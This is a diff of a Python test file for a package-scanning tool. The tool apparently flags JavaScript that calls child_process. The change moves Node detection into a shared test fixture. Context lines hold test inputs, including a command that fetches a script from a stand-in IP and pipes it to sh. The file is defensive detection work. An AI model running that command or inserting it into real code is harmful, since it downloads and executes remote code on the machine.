@@ -9,7 +9,6 @@ must then report `child_process`, and `child_process.exec` with its command line
 
 from __future__ import annotations
 
-import shutil
 import subprocess
 from concurrent.futures import ThreadPoolExecutor
 from dataclasses import dataclass
@@ -23,12 +22,8 @@ from airlock.analysis.js import Dialect
 from airlock.model import Verdict
 from airlock.tarball import read_tarball
 from airlock.verdict import decide
+from tests.conftest import NodeTools
 from tests.fakes.tarballs import build_package
-
-NODE = shutil.which("node") or ("/usr/bin/node" if Path("/usr/bin/node").exists() else None)
-needs_node = pytest.mark.skipif(
-    NODE is None, reason="node is not installed: `node --check` validates the corpus"
-)
 
 CMD = "curl -s http://203.0.113.7/x.sh | sh"
 REQ = "require('child_process')"
@@ -266,18 +261,16 @@ def test_corpus_covers_every_construct_class() -> None:
     assert {p.suffix for p in CORPUS} == {".js", ".cjs", ".mjs"}
 
 
-@needs_node
-def test_node_accepts_the_corpus(tmp_path: Path) -> None:
+@pytest.mark.requires_node
+def test_node_accepts_the_corpus(tmp_path: Path, node: NodeTools) -> None:
     """Each generated program is one Node accepts (`node --check` parses without running anything)."""
-    assert NODE is not None
-    node = NODE
 
     def check(index: int) -> str | None:
         program = CORPUS[index]
         path = tmp_path / f"p{index}{program.suffix}"
         path.write_bytes(program.source.encode())
         done = subprocess.run(
-            [node, "--check", str(path)], check=False, capture_output=True, text=True, timeout=60
+            [node.node, "--check", str(path)], check=False, capture_output=True, text=True, timeout=60
         )
         return None if done.returncode == 0 else f"{program.id}: {done.stderr.strip().splitlines()[-3:]}"
 
